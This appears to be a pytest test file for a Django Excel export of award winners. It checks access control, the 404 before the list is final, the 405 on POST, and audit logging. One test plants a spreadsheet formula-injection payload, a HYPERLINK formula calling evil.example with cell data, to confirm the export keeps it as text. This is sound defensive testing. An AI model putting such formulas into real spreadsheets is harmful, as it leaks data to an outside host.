"""The winners as an Excel list."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pytest_django.asserts import assertRedirects


def url(programme):
    return reverse("awards:winners-xlsx", args=[programme.pk])


def test_anonymous_is_sent_to_login(client, final):
    response = client.get(url(final.programme))
    assertRedirects(response, f"{reverse('login')}?next={url(final.programme)}")


def test_one_row_per_winner(world, client_for, final):
    response = client_for(world.province_admin).get(url(final.programme))
    assert response.status_code == 200
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    programme = final.programme
    assert rows[1:] == [
        (
            "我的帮扶故事",
            "一等奖",
            "刘志刚",
            "一条硬化路",
            "延长县扶贫开发局",
            f"{programme.year}-{programme.pk:03d}-0001",
        ),
        (
            "优秀组织奖",
            "优秀组织奖",
            "延长县扶贫开发局",
            None,
            "延长县扶贫开发局",
            f"{programme.year}-{programme.pk:03d}-0002",
        ),
    ]


def test_not_before_the_list_is_final(world, client_for, published):
    assert client_for(world.province_admin).get(url(published.programme)).status_code == 404


@pytest.mark.parametrize("who", ["reporter", "city_reviewer"])
def test_non_admins_are_forbidden(world, client_for, final, who):
    assert client_for(getattr(world, who)).get(url(final.programme)).status_code == 403


def test_post_is_not_allowed(world, client_for, final):
    assert client_for(world.province_admin).post(url(final.programme)).status_code == 405


def test_names_and_titles_typed_as_formulas_stay_text(world, client_for, final):
    from awards.models import Nomination

    name, title = '=HYPERLINK("http://evil.example/?"&D3,"点击查看")', "@SUM(A1:A9)"
    Nomination.objects.update(nominee_name=name, work_title=title)
    response = client_for(world.province_admin).get(url(final.programme))
    sheet = load_workbook(BytesIO(response.content)).active
    assert (sheet["C2"].value, sheet["C2"].data_type) == (name, "s")
    assert (sheet["D2"].value, sheet["D2"].data_type) == (title, "s")


def test_the_download_is_journaled(world, client_for, final):
    from portal.models import JournalEntry

    client_for(world.province_admin).get(url(final.programme), REMOTE_ADDR="10.2.3.4")
    entry = JournalEntry.objects.get(action="security.exported")
    assert (entry.actor, entry.address) == (world.province_admin, "10.2.3.4")
    assert entry.data["what"] == "awards.winners"
